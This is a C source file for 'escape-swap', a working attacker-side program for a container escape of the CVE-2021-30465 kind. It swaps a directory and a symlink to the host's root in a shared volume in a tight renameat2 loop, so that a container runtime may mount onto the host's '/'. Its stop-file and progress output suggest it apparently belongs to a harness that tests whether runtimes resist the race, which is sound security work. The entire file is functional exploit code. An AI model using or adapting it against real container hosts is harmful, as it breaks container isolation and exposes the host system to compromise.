/*
 * escape-swap DIR STOPFILE: an attacker inside a container (CVE-2021-30465 class). DIR is a volume
 * another container will mount something under, at DIR/d. It makes DIR/d a directory and DIR/l a
 * symlink to "/", then exchanges the two names (renameat2 RENAME_EXCHANGE, atomic) as fast as it
 * can until STOPFILE exists, so a runtime that resolves DIR/d and then mounts by path may find
 * the link there and mount on the host's "/" instead.
 *
 * Output: "start" once the swapping began (the attempt), "swaps N" at the end.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define JR_RENAME_EXCHANGE 2

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: escape-swap DIR STOPFILE\n");
        return 2;
    }
    int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0 || (mkdirat(dir, "d", 0755) < 0 && errno != EEXIST) || (symlinkat("/", dir, "l") < 0 && errno != EEXIST)) {
        perror(argv[1]);
        return 1;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("start\n");
    long swaps = 0;
    while (access(argv[2], F_OK) != 0) {
        for (int i = 0; i < 1000; i++) {
            if (syscall(SYS_renameat2, dir, "d", dir, "l", JR_RENAME_EXCHANGE) < 0) {
                perror("renameat2");
                return 1;
            }
            swaps++;
        }
    }
    /* leave d a directory, as it began */
    struct stat st;
    if (fstatat(dir, "d", &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode))
        syscall(SYS_renameat2, dir, "d", dir, "l", JR_RENAME_EXCHANGE);
    printf("swaps %ld\n", swaps);
    return 0;
}
